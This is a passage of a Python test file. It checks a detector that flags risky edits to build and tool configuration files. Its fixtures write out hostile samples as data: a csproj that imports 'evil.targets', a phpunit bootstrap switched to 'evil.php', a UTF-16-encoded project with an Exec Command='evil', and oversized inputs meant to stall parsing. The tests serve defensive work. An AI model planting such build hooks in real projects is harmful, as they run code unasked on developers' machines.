        "<Project><PropertyGroup /></Project>",
        "<Project><PropertyGroup><LangVersion>9</LangVersion></PropertyGroup></Project>",
        '<Project><Import\n Project="evil.targets" /></Project>',
        "editor",
    ),
    "phpunit.xml": (
        '<phpunit\n colors="true"\n bootstrap=\n"a.php"></phpunit>',
        '<phpunit\n  colors="true"\n bootstrap=\n"a.php"></phpunit>',
        '<phpunit\n colors="true"\n bootstrap=\n"evil.php"></phpunit>',
        "tool-config",
    ),
}


@case(215)
@pytest.mark.parametrize("name", EDITS)
def test_a_setting_that_spans_lines_is_one_setting(number: int, name: str, tmp_path: Path, tell: Tell) -> None:
    before, harmless, harmful, kind = EDITS[name]
    for at, (after, held) in enumerate([(harmless, name == "x.csproj"), (harmful, True)]):  # in a target every edit counts
        (tmp_path / str(at)).mkdir()
        edited = Edited(tmp_path / str(at), put(name, before), put(name, after))
        assert kinds(edited).get(name, frozenset()) - {"new-dependency"} == ({kind} if held else frozenset()), after
        edited.close()
    tell("held although the changed line names nothing", control="the other attributes of an element may move")


@case(215)
def test_a_project_in_another_encoding_counts_as_a_whole(number: int, tmp_path: Path, tell: Tell) -> None:
    hidden = '<?xml version="1.0" encoding="utf-16"?><Project><Target Name="x"><Exec Command="evil" /></Target></Project>'

    def edit(tree: Path) -> None:
        (tree / "x.csproj").write_bytes(hidden.encode("utf-16"))

    edited = Edited(tmp_path, nothing, edit)
    assert "editor" in kinds(edited)["x.csproj"]
    edited.close()
    tell("held", control="see the settings above")


@case(215)
def test_what_tools_run_unasked_is_held_by_its_name(number: int, tmp_path: Path, tell: Tell) -> None:
    edited = Edited(tmp_path, nothing, both(*(put(name) for names in NAMES.values() for name in names), *map(put, ORDINARY)))
    found = kinds(edited)
    for kind, names in NAMES.items():
        for name in names:
            assert kind in found.get(name, ()), (name, found.get(name))
    assert not any(name in found for name in ORDINARY), {name: found[name] for name in ORDINARY if name in found}
    edited.close()
    tell(f"{sum(map(len, NAMES.values()))} names held", control=f"{len(ORDINARY)} ordinary names pass")


@case(214)
def test_no_text_of_a_guest_keeps_the_judgement_busy(number: int, tmp_path: Path, tell: Tell) -> None:
    texts = {
        "pom.xml": "<dependency " * 80_000,
        "a/pom.xml": "<!-- " * 200_000,
        "pnpm-lock.yaml": "  " + "a/" * 2_000_000,
        "environment.yml": "- " + " " * 1_000_000 + "x",
        "bun.lock": "\n" * 4_000_000,
        "Gemfile": "add_" * 250_000,
        "package.json": '{"dependencies":' * 60_000,
        "setup.py": "(" * 100_000,
        "setup.cfg": "[" * 500_000,
        "yarn.lock": " " * 2_000_000 + "resolution",
        "tsconfig.json": json.dumps({"x": "y" * 500_000}),
        "huge/requirements.txt": "a\n" * 2_000_000,
    }
    edited = Edited(tmp_path, nothing, both(*(put(name, text) for name, text in texts.items())))
    found = kinds(edited)
    assert "new-dependency" in found["package.json"] and "new-dependency" in found["huge/requirements.txt"], "what is not read is held"
    edited.close()
    tell(f"{len(texts)} hostile texts", control="each is larger or stranger than any real one")
